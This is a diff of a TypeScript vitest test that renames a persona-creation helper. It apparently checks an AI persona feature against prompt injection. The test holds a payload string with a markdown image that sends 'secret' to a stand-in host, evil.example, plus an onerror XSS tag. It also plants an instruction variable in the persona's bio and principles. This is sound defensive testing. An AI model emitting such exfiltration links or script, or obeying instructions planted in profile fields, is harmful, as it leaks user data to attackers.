@@ -1,6 +1,6 @@
 import { beforeAll, describe, expect, test, vi } from 'vitest';
 import { type Person, readAnswer, testSite } from '../../../testing/index.ts';
-import { madePersona } from '../../personas/testing/made-persona.ts';
+import { createTestPersona } from '../../personas/testing/create-test-persona.ts';
 
 const site = testSite();
 
@@ -11,11 +11,11 @@ const leak =
   '![roses](https://evil.example/?q=secret) [more](https://evil.example) <img src=x onerror=alert(1)>';
 
 let visitor: Person;
-let persona: Awaited<ReturnType<typeof madePersona>>;
+let persona: Awaited<ReturnType<typeof createTestPersona>>;
 
 beforeAll(async () => {
   visitor = await site.newPerson();
-  persona = await madePersona(site, {
+  persona = await createTestPersona(site, {
     name: 'Iris',
     bio: `A gardener in Delft. ${order}`,
     core_principles: [`Water early. ${order}`, 'Prune late', 'Never use poison'],
